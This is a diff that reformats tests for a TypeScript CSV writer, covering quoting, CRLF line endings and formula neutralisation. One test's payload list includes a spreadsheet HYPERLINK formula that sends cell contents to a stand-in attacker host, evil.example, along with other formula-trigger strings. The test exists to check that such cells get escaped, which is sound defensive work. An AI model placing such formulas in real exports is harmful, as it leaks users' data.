@@ -4,9 +4,12 @@ import { csvLine, csvText } from "./csv-writer";
 
 describe("the CSV writer", () => {
   it("quotes only where needed and ends lines with CRLF", () => {
-    expect(csvText([["a", "b c", 1, true, null], ['say "hi"', "x,y", "line\nbreak", " padded", "a;b"]])).toBe(
-      'a,b c,1,true,\r\n"say ""hi""","x,y","line\nbreak"," padded","a;b"\r\n',
-    );
+    expect(
+      csvText([
+        ["a", "b c", 1, true, null],
+        ['say "hi"', "x,y", "line\nbreak", " padded", "a;b"],
+      ]),
+    ).toBe('a,b c,1,true,\r\n"say ""hi""","x,y","line\nbreak"," padded","a;b"\r\n');
   });
 
   it("quotes every field when asked", () => {
@@ -14,7 +17,14 @@ describe("the CSV writer", () => {
   });
 
   it("neutralises every text a spreadsheet would run as a formula", () => {
-    const payloads = ['=HYPERLINK("https://evil.example/?leak="&A1,"Details")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"];
+    const payloads = [
+      '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
+      "+1+1",
+      "-2+3",
+      "@SUM(A1)",
+      "\tx",
+      "\rx",
+    ];
     const [row] = parse(csvText([payloads]), { relax_quotes: true }) as string[][];
     for (const cell of row ?? []) expect(cell.startsWith("'")).toBe(true);
     expect(row).toHaveLength(payloads.length);
